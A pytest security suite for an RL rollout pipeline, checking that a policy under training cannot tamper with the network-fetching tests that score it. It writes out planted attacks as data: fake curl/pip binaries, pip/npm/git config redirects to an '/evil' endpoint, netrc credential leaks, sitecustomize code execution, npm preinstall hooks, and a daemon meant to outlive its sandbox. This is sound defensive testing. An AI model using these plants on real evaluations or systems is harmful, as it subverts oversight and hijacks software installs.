"""What a policy tries against tests that fetch their tools: it would decide where from, and what runs then.

The world outside has one server. Tests ask it for `/honest`; whatever asks for `/evil`, or brings a secret
along, was led there by the policy. The job allows the server's host for Eval, as it would allow a registry,
so the proxy alone stops none of these attacks.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NoReturn

import pytest
from rollyard_crds.fields.harbor import HarborOptions
from rollyard_crds.lease import StageResult
from rollyard_crds.task import Task
from rollyard_pipeline.errors import RewardUnusable, TaskInvalid
from rollyard_pipeline.sandboxes.apptainer.starter import ApptainerOptions
from rollyard_pipeline.stages.inert_files import read_by_itself
from rollyard_tasks.formats.harbor import HarborFormat
from rollyard_tasks.formats.interface import Row
from rollyard_tasks.harbor.archive import pack
from rollyard_testing.invariants import deserves_nothing
from rollyard_testing.pipeline.stagelab import SMALL, StageLab, stage_lab
from rollyard_testing.sandboxes.outside import HOST, Outside
from rollyard_testing.sandboxes.rootfolder import make_image, make_sif

pytestmark = pytest.mark.attack(boundary="network", surface="Eval with a network")


CARRY = "rollyard_pipeline.stages.eval_sandboxes"
PASSWORD = "a-password-of-the-policy"


@dataclass
class World:
    """A world outside, and a lab whose jobs may let tests reach it."""

    lab: StageLab
    outside: Outside

    @property
    def url(self) -> str:
        return f"http://{HOST}:{self.outside.port}"

    def folder(
        self, test: str, toml: str, files: dict[str, str] | None = None, options: HarborOptions | None = None
    ) -> Task:
        """Return a task folder; `@URL@` in texts is the server, `@HOST@` its entry in a list."""
        texts = {"task.toml": toml, "instruction.md": "Do it.", "tests/test.sh": test, **(files or {})}
        contents = {path: (self.filled(text).encode(), False) for path, text in texts.items()}
        row = {"path": "task", "task_binary": pack(contents)}
        reader = HarborFormat()
        reader.harbor = options
        return Task.model_validate(reader.task(Row(row, 1)))

    async def harbor(
        self, test: str, commands: Sequence[str], toml: str = "", files: dict[str, str] | None = None
    ) -> StageResult:
        return await self.play(self.folder(test, toml, files), commands, "harbor")

    async def shell(self, test: str, commands: Sequence[str], **evaluation: Any) -> StageResult:
        task = Task.model_validate({"id": "t", "prompt": "q", "test_script": self.filled(test)})
        return await self.play(task, commands, "shell", **evaluation)

    async def play(self, task: Task, commands: Sequence[str], handler: str, **evaluation: Any) -> StageResult:
        self.lab.egress = self.outside.egress()
        network = {"network": "allowlist", "allowedHosts": [f"{HOST}:{self.outside.port}"]}
        stages = {"eval": {"timeoutSeconds": 60, **network, **evaluation}}
        steps = [[self.filled(command) for command in commands]]
        resources = {"memory": "512Mi", "disk": "32Mi", "processes": 128}
        return await self.lab.play(
            task, steps, handler=handler, stages=stages, sandbox={**SMALL, "resources": resources}
        )

    def asked(self) -> list[str]:
        """Return the paths that were asked for."""
        return [head.split(b" ")[1].decode() for head in self.outside.received]

    def filled(self, text: str) -> str:
        """Return a text with the address of the server."""
        return text.replace("@URL@", self.url).replace("@HOST@", f"{HOST}:{self.outside.port}")


EACH = ["bubblewrap", pytest.param("apptainer", marks=pytest.mark.apptainer)]
"""The kinds of sandboxes, for tests that need few programs."""


@pytest.fixture
async def world(
    request: pytest.FixtureRequest, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[World]:
    kind: str = getattr(request, "param", "bubblewrap")
    request.getfixturevalue(f"{kind}_works")
    folder, options = tmp_path_factory.mktemp("e"), {}
    if kind == "apptainer":
        image = make_sif(make_image(folder / "root", "awk", "curl", "ln", "nohup"))
        options["apptainer"] = ApptainerOptions(default_image=str(image))
    async with Outside().serving(tmp_path) as outside, stage_lab(kind, folder / "run", **options) as lab:
        yield World(lab, outside)


REWARD = "echo {} > /logs/verifier/reward.txt"
CURL = "/usr/bin/curl -s --max-time 20"
# What a test fetches with each tool. A tool that was not led elsewhere asks for /honest or, where its own
# default registry is not allowed, for nothing.
FETCHES = {
    "curl, with its folder in PATH": "PATH=$PWD:$PATH; curl -s --max-time 20 @URL@/honest",
    "curl with netrc": f"{CURL} --netrc-optional @URL@/honest",
    "pip": "PIP_TRUSTED_HOST=@HOST@ pip --retries 0 --timeout 5 download --no-deps six; true",
    "python -m pip": "python3 -m pip --version; " + f"{CURL} @URL@/honest",
    "python with its folder in PYTHONPATH": f"PYTHONPATH=$PWD python3 -c pass; {CURL} @URL@/honest",
    "npm": "npm view --fetch-retries=0 left-pad; true",
    "npm install": "npm install --fetch-retries=0 --offline; " + f"{CURL} @URL@/honest",
    "npm install, of the test's own package": (
        'echo \'{"name": "a", "version": "1.0.0"}\' > package.json; npm_config_nodedir=/usr npm install '
        f"--offline; {CURL} @URL@/honest"
    ),
    "npx": "npx --fetch-retries=0 --yes --offline cowsay; " + f"{CURL} @URL@/honest",
    "git": "git init -q .; git fetch -q @URL@/honest; git -c a.b=c fetch -q @URL@/honest/again; true",
}
EVIL = f"{CURL} @URL@/evil"


def program(name: str) -> str:
    return f"printf '%s\\n' '#!/bin/sh' '{EVIL}' > {name}; chmod 6755 {name}; ls -l {name}"


PIP_CONF = "printf '[global]\\nindex-url = @URL@/evil\\n' > {0}"
IN_PYTHON = (
    "python3 - <<'END'\nfor name in {0!r}.split():\n"
    "    open(name, 'w').write('import os; os.system(\"{1}\")\\n')\nEND\n"
)
PACKAGE = '{"name": "a", "version": "1.0.0", "scripts": {"preinstall": "' + EVIL + '"}}'


@dataclass(frozen=True)
class Plant:
    """What a policy leaves behind for one of the fetches."""

    fetch: str
    commands: tuple[str, ...]
    undone: tuple[str, ...] = ()
    """What the control undoes, so that the attack works; nothing if there are further walls behind it."""
    mark: pytest.MarkDecorator = field(kw_only=True)


SETTINGS_OF_OTHER_TOOLS = pytest.mark.attack(
    "npm builds a native module that stands beside the package of the task; gem, bundler, NuGet, MSBuild, "
    "Gradle, Go and Conda read their files",
    stopped_by="they stay behind",
)

SETTINGS_OF_NPM = pytest.mark.attack(
    "`.npmrc`, scripts of `package.json`, programs in `node_modules`", stopped_by="they stay behind"
)

PLANTS = {
    "programs in the working folder and in PATH": Plant(
        "curl, with its folder in PATH",
        (
            *(program(name) for name in ("curl", "pip", "uv", "apt-get", "/tmp/curl")),
            "mkdir -p ~/.local/bin; cp curl ~/.local/bin; export PATH=/work:~/.local/bin:$PATH",
            "echo 'PATH=/work:$PATH' | tee .bashrc .profile .bash_profile > /tmp/env",
            "export BASH_ENV=/tmp/env",
        ),
        (f"{CARRY}._mode",),
        mark=pytest.mark.attack(
            "programs of Run's stand in PATH, in the working folder or in start-up files of shells, in "
            "the place of curl, pip or uv",
            stopped_by="a fresh sandbox; no file of Run's can be executed, and PATH has none of its folders",
        ),
    ),
    "settings of pip": Plant(
        "pip",
        (
            "mkdir -p ~/.pip ~/.config/pip venv",
            *(PIP_CONF.format(name) for name in ("pip.conf", "~/.pip/pip.conf", "~/.config/pip/pip.conf")),
            "cp pip.conf pip.ini; cp pip.conf venv/",
            "export PIP_INDEX_URL=@URL@/evil PIP_CONFIG_FILE=/work/pip.conf",
        ),
        mark=pytest.mark.attack(
            "settings of Run's lead pip to another index",
            stopped_by="names that begin with a dot and known names of settings stay behind; a fresh "
            "HOME, PIP_CONFIG_FILE",
        ),
    ),
    "settings of curl and a password": Plant(
        "curl with netrc",
        (
            f"echo 'machine {HOST} login a password {PASSWORD}' | tee .netrc _netrc > ~/netrc",
            "echo 'url = @URL@/evil' | tee .curlrc _curlrc; chmod 600 .netrc",
        ),
        mark=pytest.mark.attack(
            "a netrc or a curlrc sends passwords, or the request elsewhere",
            stopped_by="names that begin with a dot and known names of settings stay behind; a fresh "
            "HOME, PIP_CONFIG_FILE",
        ),
    ),
    "a module named pip": Plant(
        "python -m pip",
        ("mkdir pip; touch pip/__init__.py", IN_PYTHON.format("pip/__main__.py json.py ssl.py re.py", EVIL)),
        mark=pytest.mark.attack(
            "a module named pip or json is imported by `python -m pip`",
            stopped_by="PYTHONSAFEPATH (Python 3.11 or newer)",
        ),
    ),
    "start-up files of Python": Plant(
        "python with its folder in PYTHONPATH",
        (IN_PYTHON.format("sitecustomize.py usercustomize.py", EVIL),),
        (f"{CARRY}.read_by_itself",),
        mark=pytest.mark.attack(
            "start-up files of Python run code where a test searches the folder",
            stopped_by="they stay behind",
        ),
    ),
    "settings of npm": Plant(
        "npm",
        ("echo 'registry=@URL@/evil' | tee .npmrc npmrc; echo '{}' > package.json; mkdir node_modules",),
        (f"{CARRY}.read_by_itself",),
        mark=SETTINGS_OF_NPM,
    ),
    "scripts of a package": Plant(
        "npm install",
        (f"echo '{PACKAGE}' > package.json",),
        (f"{CARRY}.read_by_itself",),
        mark=SETTINGS_OF_NPM,
    ),
    "a native module beside a package": Plant(
        "npm install, of the test's own package",
        (f'echo \'{{"targets": [{{"target_name": "a", "sources": ["<!({EVIL})"]}}]}}\' > binding.gyp',),
        (f"{CARRY}.read_by_itself",),
        mark=SETTINGS_OF_OTHER_TOOLS,
    ),
    "programs of installed packages": Plant(
        "npx",
        ("mkdir -p node_modules/.bin", program("node_modules/.bin/cowsay")),
        (f"{CARRY}.read_by_itself", f"{CARRY}._mode"),
        mark=SETTINGS_OF_NPM,
    ),
    "settings of git": Plant(
        "git",
        (
            "git init -q .; git config url.@URL@/evil.insteadOf @URL@/honest",
            f"git config core.fsmonitor '{EVIL}'; git config --global url.@URL@/evil.insteadOf @URL@/honest",
            # The folder itself looks like a repository, too.
            "cp -r .git/config .git/HEAD .git/objects .git/refs .; cp .git/config .gitconfig",
        ),
        mark=pytest.mark.attack(
            "git fetches from elsewhere or starts a program: settings of the user, of the repository, of "
            "the folder as one",
            stopped_by="`.git` stays behind, settings of repositories are reduced, a fresh HOME",
        ),
    ),
}


def planted(name: str, missing: Callable[[str], NoReturn]) -> Plant:
    """Return what the policy leaves, if this machine has the program that it is for."""
    plant = PLANTS[name]
    program = plant.fetch.split()[0].rstrip(",").replace("python", "python3")
    if not Path("/usr/bin", program).exists():
        missing(f"there is no /usr/bin/{program}")
    return plant


@pytest.mark.parametrize("name", [pytest.param(name, marks=plant.mark) for name, plant in PLANTS.items()])
async def test_nothing_of_run_decides_what_is_fetched(
    world: World, name: str, missing: Callable[[str], NoReturn]
) -> None:
    plant = planted(name, missing)
    found = await world.harbor(f"{FETCHES[plant.fetch]}\n{REWARD.format(0)}", plant.commands)
    assert (found.reward, found.reward_reason) == (0.0, ""), found.reward_output
    assert not [path for path in world.asked() if not path.startswith("/honest")]
    assert not [head for head in world.outside.received if b"authorization" in head.lower()]
    assert ("/honest" in "".join(world.asked())) == (plant.fetch not in ("pip", "npm"))


def _undo(monkeypatch: pytest.MonkeyPatch, names: Sequence[str]) -> None:
    for name in names:
        if name.endswith("._mode"):
            monkeypatch.setattr(name, lambda executable, left: 0o755 if executable else 0o644)
        else:
            monkeypatch.setattr(name, lambda path: False)


CONTROLS = pytest.mark.attack(
    "without its walls an attack would fail as well; an honest test gets no tools",
    surface="judgement",
    stopped_by="controls, in which each succeeds; an honest test is rewarded, and its author reads what "
    "stayed behind",
)


@CONTROLS
@pytest.mark.parametrize("name", [name for name, plant in PLANTS.items() if plant.undone])
async def test_without_the_rules_of_the_carry_it_would(
    world: World, name: str, monkeypatch: pytest.MonkeyPatch, missing: Callable[[str], NoReturn]
) -> None:
    plant = planted(name, missing)
    _undo(monkeypatch, plant.undone)
    await world.harbor(f"{FETCHES[plant.fetch]}\n{REWARD.format(0)}", plant.commands)
    assert any(path.startswith("/evil") for path in world.asked())


@CONTROLS
async def test_a_module_named_pip_would_run_without_the_safe_path(world: World) -> None:
    plant = PLANTS["a module named pip"]
    test = f"unset PYTHONSAFEPATH\n{FETCHES[plant.fetch]}\n{REWARD.format(0)}"
    await world.harbor(test, plant.commands)
    assert "/evil" in world.asked()


HONEST = """
set -e
[ "$(curl -sf --max-time 20 @URL@/honest)" = reached ]
[ "$(bash program)" = solved ] && [ ! -x program ] && [ ! -e given ] && [ ! -L link ]
[ "$(cat kept)" = kept ] && [ "$(cat /logs/artifacts/said)" = said ] && [ "$(cat package.json)" = named ]
[ ! -e .hidden ] && [ ! -e lib/conftest.py ] && [ -f lib/module.py ]
echo 1 > /logs/verifier/reward.txt
"""
SOLVES = (
    "printf 'echo solved' > program; chmod +x program; rm given; ln -s /etc/hostname link",
    "echo said > /logs/artifacts/said; touch .hidden /logs/artifacts/.npmrc; echo named > package.json",
    "mkdir lib; touch lib/conftest.py lib/module.py",
)


@CONTROLS
@pytest.mark.parametrize("world", EACH, indirect=True)
async def test_an_honest_solution_is_rewarded_and_its_author_learns_what_stayed_behind(world: World) -> None:
    task = world.folder(HONEST, 'artifacts = ["/work/package.json"]\n')
    task.sandbox.setup = "echo kept > kept; echo given > given"
    found = await world.play(task, SOLVES, "harbor")
    assert (found.reward, found.reward_reason) == (1.0, ""), found.reward_output
    assert world.asked() == ["/honest"]
    assert "4 files and folders of the policy stayed behind (" in found.reward_output
    for name in (".hidden", "lib/conftest.py", ".npmrc", "package.json"):
        assert name in found.reward_output
    assert "1 files lost the permission to be executed" in found.reward_output


@SETTINGS_OF_OTHER_TOOLS
@pytest.mark.parametrize(
    "path",
    [
        b"sub/Pip.conf", b"vendor/modules.txt", b"rails-99.0.gem", b"gems.rb", b"NuGet.Config",
        b"a/Directory.Build.props", b"gradle/wrapper/gradle-wrapper.properties", b"environment.yml",
        b"a\n/.x", b"sources.list.d/a", b"\xff.pth",
    ],
)  # fmt: skip
def test_what_tools_read_by_themselves_stays_behind(path: bytes) -> None:
    assert read_by_itself(path)


REPOSITORY = (
    "mkdir -p {0}/objects {0}/refs; cd {0}; touch objects/a refs/a; echo 'ref: refs/heads/main' > HEAD; "
    "git config -f config core.repositoryformatversion 0; git config -f config core.bare true; "
    "git config -f config url.@URL@/evil.insteadOf @URL@/honest"
)


ARTIFACTS = pytest.mark.attack(
    "an artifact is a repository by itself, whose settings send git elsewhere; a module in it is imported",
    stopped_by="settings of repositories are reduced in artifacts, too, and modules are not looked for there",
)


@ARTIFACTS
@pytest.mark.parametrize("folder", ["/logs/artifacts", "/logs/out"])
async def test_an_artifact_that_is_a_repository_sends_git_nowhere_else(world: World, folder: str) -> None:
    test = f"cd {folder}; git ls-remote @URL@/honest; [ -f HEAD ] && {REWARD.format(1)}"
    found = await world.harbor(test, [REPOSITORY.format(folder)], 'artifacts = ["/logs/out"]\n')
    assert found.reward == 1.0, found.reward_output
    assert world.asked()
    assert not [path for path in world.asked() if not path.startswith("/honest")]


@ARTIFACTS
async def test_modules_among_the_artifacts_are_not_found(world: World) -> None:
    test = f"python3 -c 'import json'; {CURL} @URL@/honest; [ -f /data/json.py ] && {REWARD.format(1)}"
    toml = 'artifacts = ["/data"]\n[environment.env]\nPYTHONPATH = "/data"\n'
    task = world.folder(test, toml)
    task.sandbox.folders = [*task.sandbox.folders, "/data"]
    found = await world.play(task, ["cd /data; " + IN_PYTHON.format("json.py", EVIL)], "harbor")
    assert (found.reward, world.asked()) == (1.0, ["/honest"]), found.reward_output


LINKS = """
[ "$(cat /logs/artifacts/link/file)" = said ] && [ "$(cat /logs/artifacts/other)" = said ] || exit
[ -e /tmp/system ] && [ ! -e /tmp/system/file ] && [ ! -s /tmp/system/other ]
echo $((1 - $?)) > /logs/verifier/reward.txt
"""


@pytest.mark.attack(
    "a folder in the place of a link of the image has its files written to where the link leads",
    surface="artifacts",
    stopped_by="the link is removed first, as Run has removed it",
)
async def test_an_artifact_is_not_written_to_where_a_link_of_the_image_leads(world: World) -> None:
    task = world.folder(LINKS, "")
    task.sandbox.setup = (
        "mkdir /tmp/system; touch /tmp/system/other; cd /logs/artifacts; ln -s /tmp/system link; "
        "ln -s /tmp/system/other"
    )
    plant = "cd /logs/artifacts; rm link other; mkdir link; echo said | tee link/file > other"
    found = await world.play(task, [plant], "harbor")
    assert found.reward == 1.0, found.reward_output


NPM_SETTINGS = "echo registry=@URL@/evil > .npmrc; echo '{}' > package.json"
SEPARATE = '[verifier]\nenvironment_mode = "separate"\n'


OTHER_WAYS_IN = pytest.mark.attack(
    "what comes otherwise: artifacts of a separate verifier, a carry of other handlers",
    stopped_by="one function copies, by the same rules",
)


@OTHER_WAYS_IN
async def test_a_separate_verifier_has_it_and_gets_no_settings_either(world: World) -> None:
    test = f"cd /logs/artifacts; {FETCHES['npm']}; {CURL} @URL@/honest; ls -A > /logs/verifier/ls; " + (
        '[ "$(cat said)" = said ] && [ ! -e .npmrc ]; echo $((1 - $?)) > /logs/verifier/reward.txt'
    )
    plant = f"cd /logs/artifacts; {NPM_SETTINGS}; echo said > said"
    found = await world.harbor(test, [plant], SEPARATE)
    assert (found.reward, world.asked()) == (1.0, ["/honest"]), found.reward_output


@OTHER_WAYS_IN
@pytest.mark.parametrize("carry", [{"diff": True}, {"files": ["lib", "said"]}], ids=["diff", "files"])
async def test_the_carry_of_other_handlers_brings_no_settings(world: World, carry: dict[str, Any]) -> None:
    test = f"cd lib; {FETCHES['npm']}; {CURL} @URL@/honest; [ -f said ] && [ ! -x said ] && [ -f ../said ]"
    plant = f"mkdir lib; cd lib; {NPM_SETTINGS}; touch said ../said"
    found = await world.shell(test, [plant, "chmod +x lib/said"], carry=carry)
    assert (found.reward, world.asked()) == (1.0, ["/honest"]), found.reward_output


@pytest.mark.attack(
    "a process survives Run and uses the tests' network",
    stopped_by="it is lent to the fresh sandbox, after Run's has been left",
)
@pytest.mark.parametrize("world", EACH, indirect=True)
async def test_what_survives_in_runs_sandbox_has_no_network(world: World) -> None:
    """It tries each port of its loopback, while the server lets the test of the other sandbox wait."""
    world.outside.pause = 0.5
    tries = (
        'while :; do for port in $(awk \'$4 == "0A" {split($2, a, ":"); print a[2]}\' /proc/net/tcp); do '
        "curl -s --max-time 2 -x http://127.0.0.1:$((16#$port)) @URL@/evil; done; curl -s @URL@/evil; done"
    )
    daemon = f"cat > d.sh <<'END'\n{tries}\nEND\nnohup setsid bash d.sh > /dev/null 2>&1 & echo begun"
    found = await world.harbor(f"{CURL} @URL@/honest; {REWARD.format(1)}", [daemon])
    assert (found.reward, world.asked()) == (1.0, ["/honest"])
    assert world.lab.observed[0].endswith("begun")


OTHERS = f"""
for address in http://{HOST}:1/ http://other.example.org:@PORT@/ http://127.0.0.1:@PORT@/; do
    curl -sf --max-time 5 $address && exit
done
curl -sf --max-time 5 --noproxy '*' @URL@/evil && exit
echo 1 > /logs/verifier/reward.txt
"""


OTHER_HOSTS = pytest.mark.attack(
    "tests, or the policy's code in them, reach other hosts", stopped_by="the proxy, as in Run"
)


@OTHER_HOSTS
@pytest.mark.parametrize("world", EACH, indirect=True)
async def test_tests_reach_the_hosts_of_their_list_only(world: World) -> None:
    test = OTHERS.replace("@PORT@", str(world.outside.port))
    assert ((await world.harbor(test, [])).reward, world.asked()) == (1.0, [])


NONE = '[verifier]\nnetwork_mode = "no-network"\n'
NAMED = '[verifier]\nnetwork_mode = "allowlist"\nallowed_hosts = ["@HOST@"]\n'
SEEN = f"({CURL} @URL@/honest) > seen; echo $([ -s seen ] && echo 1 || echo 0) > /logs/verifier/reward.txt"


@OTHER_HOSTS
async def test_a_task_has_the_network_that_it_states_for_its_tests(world: World) -> None:
    """Without one, its tests run in Run's own sandbox, as if the job had none."""
    shared = f"[ -x tool ] || exit; {SEEN}"
    assert (await world.harbor(shared, ["touch tool; chmod +x tool"], NONE)).reward == 0.0
    assert (await world.harbor(SEEN, [], world.filled(NAMED))).reward == 1.0
    assert world.asked() == ["/honest"]
    with pytest.raises(TaskInvalid, match=r"a\.org is not among the job's stages.eval.allowedHosts"):
        await world.harbor(SEEN, [], NAMED.replace("@HOST@", "a.org"))


@OTHER_HOSTS
async def test_tests_have_it_where_the_policy_has_none(world: World) -> None:
    """So published folders can be played that ask for every host, for their agent and their tests."""
    task = world.folder(
        SEEN, "[environment]\nallow_internet = true\n", options=HarborOptions(network="allow")
    )
    found = await world.play(task, [f"{CURL} @URL@/evil; env | grep -i _proxy; echo none"], "harbor")
    assert (found.reward, world.asked(), world.lab.observed) == (1.0, ["/honest"], ["none"])


STEPS = "".join(f'[[steps]]\nname = "{name}"\n' for name in "ab")
INSTRUCTIONS = {f"steps/{name}/instruction.md": "Do it." for name in "ab"}


@pytest.mark.attack(
    "a job has it where Run's files decide: a shared sandbox, several steps, folders of the system, "
    "handlers that import the repository",
    stopped_by="such jobs or rollouts are refused",
)
async def test_jobs_that_would_lend_it_to_what_run_left_are_refused(world: World) -> None:
    with pytest.raises(TaskInvalid, match="a task of several steps needs network_mode = 'no-network'"):
        await world.harbor(SEEN, [], STEPS, INSTRUCTIONS)
    for path in ("/etc/pip.conf", "/usr/lib/python3/dist-packages", "/usr/local/bin/pytest"):
        with pytest.raises(TaskInvalid, match=f"{path} is in a folder of the system"):
            await world.harbor(SEEN, [], f'artifacts = ["{path}"]\n')
    cases = [{"input": "", "output": ""}]
    code = Task.model_validate({"id": "t", "prompt": "q", "tests": {"cases": cases}})
    with pytest.raises(TaskInvalid, match="runs no tests that may fetch"):
        await world.play(code, [], "code")


BAD_SCORE_AS_FAILURE = pytest.mark.attack(
    "a bad score becomes a failure: no reward, or more than can be carried",
    stopped_by="the tests are repeated where no policy has been, with the network; what cannot be carried "
    "is scored",
)


@BAD_SCORE_AS_FAILURE
async def test_tools_that_cannot_be_had_are_no_score(world: World) -> None:
    """The same tests in a sandbox that no policy has seen give no reward either, so nobody is scored."""
    with pytest.raises(RewardUnusable):
        await world.harbor(f"set -e; curl -sf http://{HOST}:1/; {REWARD.format(1)}", ["touch a"])
    # Here it is the policy that keeps them from a reward, and the control reaches the network.
    test = f"set -e; {CURL} @URL@/honest; [ ! -e broken ]; {REWARD.format(1)}"
    found = await world.harbor(test, ["touch broken"])
    deserves_nothing(found.reward)
    assert (found.reward_reason, world.asked()) == ("RewardMissing", ["/honest"] * 2)


@BAD_SCORE_AS_FAILURE
async def test_an_oversized_carry_is_the_policys_doing(world: World) -> None:
    found = await world.harbor(SEEN, ["truncate -s 100M large; touch .npmrc"])
    assert (found.reward, found.reward_reason, world.asked()) == (0.0, "SandboxSabotaged", [])
